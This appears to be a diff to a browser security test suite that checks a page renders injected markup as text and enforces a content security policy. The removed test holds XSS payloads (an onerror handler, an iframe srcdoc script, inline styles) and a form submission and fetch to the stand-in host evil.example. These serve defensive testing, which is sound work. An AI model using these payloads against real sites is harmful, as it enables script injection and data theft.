@@ -21,7 +21,7 @@ ATTACKS = [
 
 
 def assert_unharmed(visit: Visit) -> None:
-    """Nothing ran or became an element; `visiting` reports dialogs and requests to other servers."""
+    """Nothing ran or became an element; `visiting` reports requests to other servers."""
     assert visit.page.evaluate("typeof window.hacked") == "undefined"
     assert visit.page.locator("main :is(script, iframe, svg, base, style, a)").count() == 0
     assert visit.page.locator("main img:not([id^=plot-])").count() == 0
@@ -77,25 +77,3 @@ def test_markup_in_the_model_is_text(visits: Callable[..., Visit], served: Serve
     for attack in ATTACKS[:2]:
         expect(visit.facts).to_contain_text(attack)
     assert_unharmed(visit)
-
-
-def test_policy_blocks_injected_scripts_styles_and_requests(visit: Visit) -> None:
-    visit.page.evaluate(
-        """() => {
-            const frame = document.createElement("div");
-            frame.innerHTML = `<img src="x" onerror="window.hacked=1"><p style="color:red">x</p>
-                <iframe srcdoc="<script>parent.hacked=1</script>"></iframe><style>p{color:red}</style>
-                <form action="http://evil.example/"><input></form>`;
-            document.body.append(frame);
-            const script = document.createElement("script");
-            script.textContent = "window.hacked=1";
-            document.body.append(script);
-            frame.querySelector("form").submit();
-        }"""
-    )
-    assert visit.page.evaluate("fetch('http://evil.example/').then(() => 1, () => 0)") == 0
-    visit.page.wait_for_timeout(200)
-    assert visit.page.evaluate("typeof window.hacked") == "undefined"
-    for directive in ("script-src", "style-src", "form-action", "connect-src"):
-        assert directive in " ".join(visit.errors)
-    visit.errors.clear()
